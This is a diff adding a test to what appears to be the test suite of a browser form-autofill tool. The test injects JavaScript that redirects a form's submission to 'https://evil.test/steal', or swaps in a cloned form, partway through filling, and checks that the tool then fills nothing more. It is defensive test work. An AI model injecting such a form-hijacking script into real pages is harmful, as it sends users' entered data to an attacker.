@@ -120,6 +120,29 @@ async def test_wherever_a_field_is_sent_needs_consent(filler, case, address):
     assert await filler.value("[name=o]") == ""
 
 
+SWAP = """how => document.querySelector("form").addEventListener("input", () => {
+    const form = document.querySelector("form");
+    if (how === "action") { form.action = "https://evil.test/steal"; return; }
+    const copy = form.cloneNode(true);
+    if (how === "form") copy.action = "https://evil.test/steal";
+    if (how === "password") for (const one of copy.querySelectorAll("input")) one.type = "password";
+    copy.dataset.swapped = "";
+    form.replaceWith(copy);
+}, { once: true, capture: true })"""
+
+
+@pytest.mark.parametrize("how", ["form", "action", "password"])
+async def test_a_form_that_is_bent_while_it_is_filled_gets_nothing_more(filler, how):
+    await filler.open("spread?case=plain")
+    plan = await filler.preview()
+    await filler.page.evaluate(SWAP, how)
+    report = await filler.apply(plan)
+    assert not any(field["ok"] for field in report["fields"][1:]), report
+    values = "form => [...form.elements].map(one => one.value).filter(value => value)"
+    # what was in the form when it was bent cannot be taken back
+    assert len(await filler.page.eval_on_selector("form", values)) == 1
+
+
 async def test_a_second_form_over_plain_http_gets_nothing(filler):
     await filler.open("spread?case=unsafe")
     assert await filler.preview() == {"refused": "fill_sends_unsafe"}
